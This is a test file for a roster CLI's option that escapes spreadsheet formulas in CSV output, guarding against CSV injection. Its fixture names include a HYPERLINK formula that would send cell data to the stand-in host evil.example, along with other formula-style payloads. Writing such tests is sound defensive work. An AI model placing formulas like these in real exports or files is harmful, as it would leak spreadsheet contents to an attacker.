// --escape-formulas on a OneRoster read: a run in this process against a server (an HttpMock) whose records
// start with what a spreadsheet runs (OWASP CSV injection). Without the option the CSV is exact.
import { describe, expect, it } from 'vitest';
import { formulaSafe, formulaUnescaped } from '../../src/output/csv.js';
import { json, tokenReply, useHttpMock } from '../helpers/http-mock.js';
import { rosterInProcess } from '../helpers/main.js';

const NAMES = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '+1+cmd',
  '-2',
  '@SUM(A1)',
  '\tTab',
  '\rCR',
  'Zoë',
  'a=b',
];

const mock = useHttpMock();
/** The token, then the students whose names are the formulas. */
function server(): void {
  mock.http
    .register({ method: 'POST', path: '/v1/ims/oneroster/v1p1/token' }, tokenReply('tok-1'))
    .register(
      { method: 'GET', path: '/v1/ims/oneroster/v1p1/students' },
      json({ users: NAMES.map((givenName, i) => ({ sourcedId: `s-${i}`, givenName })) }),
    );
}

const roster = (args: string[]) =>
  rosterInProcess(['roster', 'students', '--columns', 'sourcedId,givenName', ...args], {
    env: { ROSTER_BASE_URL: 'https://api.test/v1', ROSTER_CLIENT_ID: 'c', ROSTER_CLIENT_SECRET: 'secret-1' },
    transport: mock.http,
  });

describe('--escape-formulas', () => {
  it("puts a ' before cells starting with = + - @, a tab or a CR; leaves the others", async () => {
    server();
    const result = await roster(['--csv', '--escape-formulas']);
    expect(result.code).toBe(0);
    expect(result.stdout).toBe(
      [
        'sourcedId,givenName',
        `s-0,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`,
        "s-1,'+1+cmd",
        "s-2,'-2",
        "s-3,'@SUM(A1)",
        "s-4,'\tTab",
        `s-5,"'\rCR"`,
        's-6,Zoë',
        's-7,a=b',
        '',
      ].join('\n'),
    );
  });

  it('without it, the CSV holds the exact values', async () => {
    server();
    const result = await roster(['--csv']);
    expect(result.code).toBe(0);
    expect(result.stdout.split('\n').slice(1, 5)).toEqual([
      's-0,"=HYPERLINK(""http://evil.example/?""&A1,""x"")"',
      's-1,+1+cmd',
      's-2,-2',
      's-3,@SUM(A1)',
    ]);
  });

  it('goes with --csv only: a usage error, nothing sent', async () => {
    const result = await roster(['--json', '--escape-formulas']);
    expect(result.code).toBe(2);
    expect(result.stderr).toBe('Error: --escape-formulas goes with --csv.\n');
    expect(mock.http.requests).toEqual([]);
  });

  it('formulaSafe', () => {
    expect(NAMES.map(formulaSafe)).toEqual([
      `'${NAMES[0]}`,
      "'+1+cmd",
      "'-2",
      "'@SUM(A1)",
      "'\tTab",
      "'\rCR",
      'Zoë',
      'a=b',
    ]);
  });

  it('formulaUnescaped gives back exactly what formulaSafe escaped, quotes included', () => {
    const values = [...NAMES, "'+quote@example.org", "''=two", "'plain", "'", "''", '-', "'-"];
    for (const value of values) expect(formulaUnescaped(formulaSafe(value)), value).toBe(value);
    expect(formulaSafe("'+quote@example.org")).toBe("''+quote@example.org");
    expect(formulaSafe("'plain")).toBe("'plain");
  });
});
